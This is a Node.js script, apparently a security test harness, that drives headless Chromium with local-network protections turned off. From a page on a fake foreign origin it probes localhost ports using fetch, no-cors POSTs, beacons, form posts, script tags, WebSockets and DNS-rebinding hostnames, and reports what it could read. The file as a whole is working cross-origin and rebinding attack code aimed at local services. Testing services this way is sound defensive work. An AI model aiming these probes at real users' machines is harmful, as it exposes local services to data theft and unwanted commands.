// A page of another site that tries every port of this machine: says what it could read.
// node attack.mjs FOLDER-OF-PACKAGES CHROMIUM TARGETS, where TARGETS is JSON: [{"name": …, "port": …, "body": Base64}]
import { createRequire } from "node:module";
import { createServer } from "node:http";
import { join, resolve } from "node:path";

const [folder, executablePath, text] = process.argv.slice(2);
const require = createRequire(join(resolve(folder), "node_modules", "none.js"));
const { chromium } = require("playwright-core");
const targets = JSON.parse(text);
const site = createServer((_, answer) => answer.writeHead(200, { "Content-Type": "text/html" }).end("<!doctype html><title>elsewhere</title>"));
await new Promise(done => site.listen(0, "127.0.0.1", done));
const browser = await chromium.launch({
  executablePath,
  args: ["--headless", "--no-sandbox", "--disable-dev-shm-usage", "--disable-gpu", "--no-first-run", "--disable-background-networking",
    "--disable-component-update", "--disable-sync",
    // Names of the attacker's that lead to this machine; and the browser's own defence is off.
    "--host-resolver-rules=MAP *.example 127.0.0.1", "--explicitly-allowed-ports=1-65535",
    "--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests"],
});
const context = await browser.newContext();
const page = await context.newPage();
await page.goto(`http://elsewhere.example:${site.address().port}/`);

const tried = await page.evaluate(async targets => {
  const soon = (what, ms) => Promise.race([what, new Promise(done => setTimeout(() => done("nothing"), ms))]);
  const read = async (url, options) => {
    try { return `${(await (await fetch(url, options)).text()).slice(0, 200)}`; } catch { return "refused"; }
  };
  const socket = (url, protocols) => new Promise(done => {
    let one;
    try { one = new WebSocket(url, protocols); } catch { done("refused"); return; }
    one.onopen = () => done("opened");
    one.onmessage = ({ data }) => done(`told ${String(data).slice(0, 100)}`);
    one.onerror = one.onclose = () => done("refused");
  });
  const form = (url, body) => new Promise(done => {
    const frame = Object.assign(document.createElement("iframe"), { name: `frame${Math.random()}` });
    const made = Object.assign(document.createElement("form"), { action: url, method: "POST", enctype: "text/plain", target: frame.name });
    made.append(Object.assign(document.createElement("textarea"), { name: body, value: "" }));
    document.body.append(frame, made);
    made.submit();
    // What a frame of another origin shows can never be read; whether it was obeyed, the ports say.
    setTimeout(() => done("refused"), 1000);
  });
  const script = url => new Promise(done => {
    const made = Object.assign(document.createElement("script"), { src: url });
    made.onload = () => done("loaded");
    made.onerror = () => done("refused");
    document.head.append(made);
  });
  const all = [];
  for (const { name, port, body } of targets) {
    const bytes = Uint8Array.from(atob(body), letter => letter.charCodeAt(0)), url = `http://127.0.0.1:${port}/`;
    const ways = {
      read: () => read(url), flights: () => read(`${url}flights`),
      post: () => read(url, { method: "POST", mode: "no-cors", body: new Blob([bytes]) }).then(said => said === "" ? "refused" : said),
      hover: () => read(`${url}hover`, { method: "POST", headers: { "X-Skein-Token": "right" } }),
      beacon: async () => { navigator.sendBeacon(url, new Blob([bytes])); return "refused"; },
      form: () => form(url, atob(body)),
      script: () => script(`${url}flights`), code: () => script(`${url}page.js`),
      socket: () => socket(`ws://127.0.0.1:${port}/`, ["foxglove.sdk.v1", "foxglove.websocket.v1"]),
      flight: () => socket(`ws://127.0.0.1:${port}/flights/stream-vpn`, ["foxglove.sdk.v1"]), plain: () => socket(`ws://127.0.0.1:${port}/`),
    };
    for (const [way, attempt] of Object.entries(ways)) all.push([name, way, await soon(attempt(), 5000)]);
  }
  return all;
}, targets);
// A name of another site that leads here: the browser takes the answers for that site's own.
for (const { name, port } of targets) for (const path of ["", "flights"]) {
  const rebound = await context.newPage();
  try {
    const answer = await rebound.goto(`http://rebound.example:${port}/${path}`, { timeout: 5000 });
    tried.push([name, `rebound /${path}`, answer.status() < 400 ? await answer.text() : "refused"]);
  } catch { tried.push([name, `rebound /${path}`, "refused"]); }
  await rebound.close();
}
await browser.close();
site.close();
console.log(JSON.stringify({ tried: tried.length, got: tried.filter(([, , what]) => what !== "refused" && what !== "nothing") }));
